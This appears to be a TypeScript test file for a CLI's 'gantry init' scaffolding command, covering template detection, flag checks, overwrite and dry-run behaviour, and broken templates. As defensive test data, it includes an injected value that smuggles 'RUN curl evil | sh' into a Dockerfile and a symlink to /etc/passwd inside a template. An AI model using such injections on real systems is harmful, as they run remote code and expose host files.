// `gantry init` as a command (in process): detection picks the template, flags and --set answer
// and are checked, --force/--dry-run/--list, local templates, and a broken template writing
// nothing at all.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { runArgv } from '../../../src/cli/run-argv.ts';
import { builtinNames } from '../../../src/scaffold/index.ts';
import { init, tempDir } from '../../helpers/scaffold-cases.ts';

const gantry = (args: readonly string[], cwd: string) =>
  runArgv(args, { cwd, env: { PATH: process.env['PATH'] ?? '' } });

function withDir(label: string, fn: (dir: string) => Promise<void>): () => Promise<void> {
  return async () => {
    const dir = tempDir(label);
    try {
      await fn(dir);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  };
}

test(
  'a pnpm project gets the node template with pnpm, its start script and its Node version',
  withDir('pnpm', async (dir) => {
    writeFileSync(
      join(dir, 'package.json'),
      JSON.stringify({ scripts: { start: 'node main.js' }, engines: { node: '20' } }),
    );
    writeFileSync(join(dir, 'pnpm-lock.yaml'), '');
    const r = await gantry(['init', '--yes'], dir);
    assert.equal(r.exitCode, 0, r.stderr);
    assert.match(r.stdout, /^detected node \(package\.json, pnpm-lock\.yaml\)$/m);
    const df = readFileSync(join(dir, 'Dockerfile'), 'utf8');
    assert.match(df, /ARG NODE_VERSION=20\n/);
    assert.match(df, /pnpm install --frozen-lockfile --prod/);
    assert.match(df, /CMD \["pnpm","start"\]/);
  }),
);

test(
  'flags answer: --port, --database, --cache; a flag the template lacks and a bad value are usage errors',
  withDir('flags', async (dir) => {
    const r = await gantry(
      ['init', '--yes', '-t', 'go', '--port', '9090', '--database', 'postgres', '--cache', 'redis'],
      dir,
    );
    assert.equal(r.exitCode, 0, r.stderr);
    const compose = readFileSync(join(dir, 'compose.yaml'), 'utf8');
    assert.match(compose, /127\.0\.0\.1:\$\{HOST_PORT:-8080\}:9090/);
    assert.match(compose, /^ {2}db:$/m);
    assert.match(compose, /^ {2}cache:$/m);
    for (const [args, msg] of [
      [['--framework', 'flask'], /--framework: template go has no variable "framework"/],
      [['--port', 'eighty'], /--port: port must be a whole number/],
      [['--port', '70000'], /--port: port must be at most 65535/],
      [['--set', 'start_command=a\nRUN curl evil | sh'], /start_command must be text without control characters/],
      [['--set', 'nope=1'], /--set nope: template go has no variable "nope" \(it has: name, .*version/],
      [['--set', 'database'], /--set database: expected KEY=VALUE/],
    ] as const) {
      const bad = await gantry(['init', join(dir, 'x'), '--yes', '-t', 'go', ...args], dir);
      assert.equal(bad.exitCode, 2, `${args.join(' ')}: ${bad.stderr}`);
      assert.match(bad.stderr, msg);
      assert.equal(bad.stderr.trim().split('\n').length, 1, 'one line');
      assert.equal(existsSync(join(dir, 'x')), false, 'nothing written');
    }
  }),
);

test(
  'a stack refuses an answer it fixes; its language comes from detection',
  withDir('stack', async (dir) => {
    const fixed = await gantry(['init', '--yes', '-t', 'web-postgres', '--database', 'none'], dir);
    assert.equal(fixed.exitCode, 2);
    assert.match(fixed.stderr, /--database: template web-postgres fixes database to postgres/);
    writeFileSync(join(dir, 'go.mod'), 'module x\n\ngo 1.22\n');
    const r = await gantry(['init', '--yes', '-t', 'web-postgres'], dir);
    assert.equal(r.exitCode, 0, r.stderr);
    assert.match(r.stdout, /template web-postgres \(files of go\)/);
    assert.match(readFileSync(join(dir, 'Dockerfile'), 'utf8'), /FROM golang:\$\{GO_VERSION\}-alpine/);
  }),
);

test(
  'existing files are kept without --force and replaced with it; --dry-run writes nothing',
  withDir('force', async (dir) => {
    const dry = await init(dir, 'static', {}, ['--dry-run']);
    assert.equal(dry.exitCode, 0, dry.stderr);
    assert.match(dry.stdout, /^would be created compose\.yaml$/m);
    assert.deepEqual(readdirSync(dir), []);
    assert.equal((await init(dir, 'static', {})).exitCode, 0);
    writeFileSync(join(dir, 'Dockerfile'), 'FROM mine\n');
    const kept = await init(dir, 'static', {});
    assert.match(kept.stdout, /^kept \(exists; --force overwrites\) Dockerfile$/m);
    assert.match(kept.stdout, /^unchanged compose\.yaml$/m);
    assert.equal(readFileSync(join(dir, 'Dockerfile'), 'utf8'), 'FROM mine\n');
    const forced = await init(dir, 'static', {}, ['--force']);
    assert.match(forced.stdout, /^overwrote Dockerfile$/m);
    assert.match(readFileSync(join(dir, 'Dockerfile'), 'utf8'), /AS runtime/);
  }),
);

test(
  '--list shows every built-in template with its kind; an empty folder without --template is a usage error',
  withDir('list', async (dir) => {
    const list = await gantry(['init', '--list'], dir);
    assert.equal(list.exitCode, 0, list.stderr);
    for (const name of builtinNames()) assert.match(list.stdout, new RegExp(`^${name} +(language|stack) `, 'm'));
    assert.ok(builtinNames().length >= 12);
    const none = await gantry(['init', '--yes'], dir);
    assert.equal(none.exitCode, 2);
    assert.match(none.stderr, /nothing to detect in .*: name a template with --template NAME/);
  }),
);

function localTemplate(dir: string, files: Record<string, string>): string {
  const t = join(dir, 'tpl');
  for (const [f, text] of Object.entries({
    'template.yaml': 'description: mine\nvariables:\n  greeting:\n    default: hi\n',
    ...files,
  })) {
    mkdirSync(join(t, f, '..'), { recursive: true });
    writeFileSync(join(t, f), text);
  }
  return t;
}

test(
  'a local template (--template ./path) renders its .liquid files with its variables and the shared partials',
  withDir('local', async (dir) => {
    localTemplate(dir, {
      'compose.yaml.liquid': 'services:\n  web:\n    image: busybox\n    command: ["echo", "{{ greeting }}"]\n',
      'dot-dockerignore.liquid': "{% include '_shared/dockerignore' %}\n",
      'docs/ci.yml': 'run: echo ${{ github.sha }}\n',
    });
    const r = await gantry(['init', 'out', '--yes', '-t', './tpl', '--set', 'greeting=hello'], dir);
    assert.equal(r.exitCode, 0, r.stderr);
    assert.match(readFileSync(join(dir, 'out', 'compose.yaml'), 'utf8'), /"echo", "hello"/);
    assert.match(readFileSync(join(dir, 'out', '.dockerignore'), 'utf8'), /^\.env$/m);
    assert.equal(
      readFileSync(join(dir, 'out', 'docs', 'ci.yml'), 'utf8'),
      'run: echo ${{ github.sha }}\n',
      'a file not named .liquid is copied as it is',
    );
  }),
);

const BROKEN: readonly (readonly [label: string, files: Record<string, string>, message: RegExp])[] = [
  [
    'an unknown variable',
    { 'README.md.liquid': '{{ greting }}' },
    /template .*tpl: README\.md: undefined variable: greting/,
  ],
  [
    'a placeholder left by a raw block',
    { 'README.md.liquid': '{% raw %}{{ x }}{% endraw %}' },
    /README\.md:1: "\{\{" survived rendering/,
  ],
  [
    'a Dockerfile with an empty continuation line',
    { Dockerfile: 'FROM busybox\nRUN true \\\n\nFROM busybox AS runtime\n' },
    /Dockerfile: .*empty continuation/i,
  ],
  [
    'a compose file the loader refuses',
    { 'compose.yaml.liquid': 'services:\n  web:\n    image: busybox\n    ports: ["{{ greeting }}"]\n' },
    /the generated compose\.yaml does not load: .*ports/,
  ],
  [
    'a build target with no such stage',
    {
      'compose.yaml': 'services:\n  web:\n    build: { context: ., target: runtime }\n',
      Dockerfile: 'FROM busybox AS base\n',
    },
    /services\.web\.build\.target: Dockerfile has no stage "runtime"/,
  ],
  [
    'a bad manifest',
    { 'template.yaml': 'description: x\nvariables:\n  port: { type: number }\n' },
    /template\.yaml:1:1: variables\.port\.default: a default is required/,
  ],
];

for (const [label, files, message] of BROKEN) {
  test(
    `a template with ${label} fails in one line and writes nothing`,
    withDir('broken', async (dir) => {
      localTemplate(dir, { 'other.txt': 'fine\n', ...files });
      const r = await gantry(['init', 'out', '--yes', '-t', './tpl'], dir);
      assert.equal(r.exitCode, 1, r.stderr);
      assert.match(r.stderr, message);
      assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);
      assert.equal(existsSync(join(dir, 'out')), false, 'nothing written');
    }),
  );
}

test(
  'a local template may not hold a symbolic link (it could pull a host file into the project)',
  withDir('link', async (dir) => {
    const t = localTemplate(dir, {});
    symlinkSync('/etc/passwd', join(t, 'passwd'));
    const r = await gantry(['init', 'out', '--yes', '-t', './tpl'], dir);
    assert.equal(r.exitCode, 2);
    assert.match(r.stderr, /passwd is a symbolic link/);
  }),
);
